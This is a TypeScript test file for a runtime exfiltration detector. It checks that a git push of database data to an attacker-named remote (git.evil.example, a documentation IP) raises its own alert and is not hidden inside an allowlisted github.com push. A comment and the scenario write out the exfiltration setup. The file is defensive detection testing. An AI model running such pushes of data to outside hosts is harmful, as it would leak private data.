/**
 * A push-shaped process of the same tool within pushSettleMs joins a pending push only when lineage is
 * lost (no parent known) and neither names another host: a second push given a remote *name* from the same
 * shell is its own push, not hidden in an allowlisted one.
 */
import { describe, expect, it } from 'vitest';
import { MiB, run, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const ATTACKER_IP = '203.0.113.66';

describe('a push-shaped process of the same tool joins a pending push only without lineage and to the same host', () => {
  it('helpers of one push still join: git push origin → git-remote-https origin URL (one alert)', () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB);
    const g = s.exec(c, '/usr/bin/git', 'push origin main', { parent: sh });
    const h = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/app.git', { parent: g });
    s.connect(h, GITHUB_IP, 443).send(h, GITHUB_IP, 443, 80 * MiB);
    const alerts = run(s.events).alerts;
    expect(alerts.map((a) => [a.push.tool, a.push.destination])).toEqual([['git', 'github.com']]);
  });

  it.each(['falco', 'tetragon'] as const)(
    'a second git push to an attacker remote given by NAME within pushSettleMs is not merged into an allowlisted github.com push (%s)',
    (source) => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'ci' });
      const sh = s.init(c);
      s.readMany(sh, '/srv/db', 80, MiB);
      const g1 = s.exec(c, '/usr/bin/git', 'push https://github.com/acme/app.git main', { parent: sh });
      const h1 = s.exec(
        c,
        '/usr/lib/git-core/git-remote-https',
        'https://github.com/acme/app.git https://github.com/acme/app.git',
        { parent: g1 },
      );
      s.connect(h1, GITHUB_IP, 443).send(h1, GITHUB_IP, 443, 10_000);
      s.wait(2000);
      // `git remote add evil https://git.evil.example/loot.git` earlier; the push names the remote only.
      const g2 = s.exec(c, '/usr/bin/git', 'push evil main', { parent: sh });
      const h2 = s.exec(c, '/usr/lib/git-core/git-remote-https', 'evil https://git.evil.example/loot.git', {
        parent: g2,
      });
      s.connect(h2, ATTACKER_IP, 443).send(h2, ATTACKER_IP, 443, 80 * MiB);
      const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci' }];
      const alerts = run(s.events, { allowlist }).alerts;
      expect(alerts.map((a) => [a.push.destination, a.push.addresses])).toEqual([
        ['git.evil.example', [`${ATTACKER_IP}:443`]],
      ]);
    },
  );
});
